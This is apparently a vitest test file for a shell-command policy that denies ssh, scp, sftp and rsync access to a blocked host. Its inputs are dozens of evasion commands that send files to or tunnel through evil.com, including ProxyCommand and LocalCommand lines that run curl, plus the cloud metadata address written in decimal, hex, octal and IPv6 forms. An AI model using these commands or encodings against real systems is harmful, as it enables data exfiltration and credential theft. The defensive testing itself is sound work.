// ssh, scp, sftp and rsync under a deny of a host: every way the line sends them to it is a deny,
// not a question a person could approve past the org (each spelling checked with `ssh -G` or
// the real program), and what the policy cannot read there is still asked about.
import { describe, expect, it } from "vitest";
import { judgeShell, judgeShellNoting, policyOf } from "../testing/policy";

const clients = ["ssh", "scp", "sftp", "rsync"].map((command) => ({ effect: "allow" as const, command }));
const noEvil = policyOf({ effect: "deny", host: "evil.com" }, ...clients);
const noMetadata = policyOf({ effect: "deny", host: "169.254.169.254" }, ...clients);

describe("a deny of a host holds wherever ssh's options send it", () => {
  it.each([
    "ssh -o Hostname=evil.com a.org",
    "ssh -oHostName=evil.com a.org",
    "ssh -4o Hostname=evil.com a.org",
    "ssh -o 'HOSTNAME   evil.com' a.org",
    "ssh -o Hostname=EVIL.COM. a.org",
    // `%h` is the destination's host.
    "ssh -o Hostname=evil.%h com",
    // ssh reads options after its destination too, up to the remote command.
    "ssh a.org -o Hostname=evil.com",
    "ssh -o ProxyJump=evil.com a.org",
    "ssh -o 'ProxyJump u@evil.com:22,b.org' a.org",
    "ssh -W evil.com:22 a.org",
    "ssh -W '[evil.com]:22' a.org",
    "ssh -L 127.0.0.1:8080:evil.com:80 a.org",
    "ssh -R 8080:evil.com:80 a.org",
    "ssh -o LocalForward='8080 evil.com:80' a.org",
    // A command ssh runs locally is read as a script.
    "ssh -o ProxyCommand='ssh -W %h:%p evil.com' a.org",
    "ssh -o ProxyCommand=\"sh -c 'curl evil.com'\" a.org",
    "ssh -o 'LocalCommand=curl evil.com' -o PermitLocalCommand=yes a.org",
    "env ssh -o Hostname=evil.com a.org",
    "nohup ssh -o Hostname=evil.com -- a.org",
  ])("%s is denied", (command) => expect(judgeShell(command, noEvil).decision).toBe("policy_deny"));
});

describe("a deny of a host holds for scp, sftp and rsync destinations", () => {
  it.each([
    "scp evil.com:f .",
    "scp f user@evil.com:/x",
    "scp -3 a.org:f evil.com:g",
    "scp -o Hostname=evil.com f a.org:x",
    "scp -J evil.com f a.org:x",
    "scp -oProxyCommand='curl evil.com' f a.org:x",
    "timeout 5 scp f evil.com:x",
    "sftp evil.com",
    "sftp -P 22 evil.com",
    "sftp u@evil.com:/x",
    "sftp -oProxyJump=evil.com a.org",
    "rsync f evil.com::m",
    "rsync f user@evil.com:x",
    "rsync -av f evil.com:x",
    "rsync --files-from=evil.com:list . a.org:x",
    "rsync -e 'ssh -J evil.com' f a.org:x",
    "rsync -avze 'ssh -J evil.com' f a.org:x",
    'rsync -e"ssh -J evil.com" f a.org:x',
    "rsync --rsh='ssh -o Hostname=evil.com' f a.org:x",
    "rsync --rsh 'ssh -J evil.com' f a.org:x",
    "RSYNC_RSH='ssh -J evil.com' rsync f a.org:x",
    "RSYNC_CONNECT_PROG='curl evil.com' rsync rsync://a.org/m",
    "RSYNC_PROXY=evil.com:3128 rsync rsync://a.org/m",
  ])("%s is denied", (command) => expect(judgeShell(command, noEvil).decision).toBe("policy_deny"));
});

describe("a denied address written as a number, or inside IPv6, is denied", () => {
  it.each([
    "ssh 2852039166",
    "ssh 0xa9fea9fe",
    "ssh u@169.254.43518",
    "ssh 0251.0376.0251.0376",
    "ssh ::ffff:169.254.169.254",
    "ssh -J 0xa9fea9fe a.org",
    "scp f 2852039166:x",
    "rsync f '[::ffff:169.254.169.254]:x'",
  ])("%s is denied", (command) => expect(judgeShell(command, noMetadata).decision).toBe("policy_deny"));
});

describe("what may send them anywhere is asked about, not allowed", () => {
  it.each([
    ["scp -F cfg f a.org:x", "`-F`"],
    ["scp -S ./prog f a.org:x", "`-S`"],
    ["sftp -D /usr/lib/sftp-server a.org", "`-D`"],
    ["rsync -e 'ssh -F cfg' f a.org:x", "`-F`"],
    ["rsync -e 'ssh $H' f a.org:x", "only known at run time"],
  ])("%s", (command, why) => {
    const r = judgeShellNoting(command, noEvil);
    expect(r.decision).toBe("policy_ask");
    expect(r.unchecked).toContain(why);
  });
});

describe("a domain ssh canonicalises its destination in is reached (`ssh -G` shows it read)", () => {
  it.each([
    "ssh -o CanonicalDomains=evil.com -o CanonicalizeHostname=yes x",
    "ssh -o 'CanonicalDomains a.org evil.com' -o CanonicalizeHostname=always x",
    "ssh -o canonicaldomains=EVIL.COM. x",
    "scp -o CanonicalDomains=evil.com f x:y",
  ])("%s is denied", (command) => expect(judgeShell(command, noEvil).decision).toBe("policy_deny"));
});
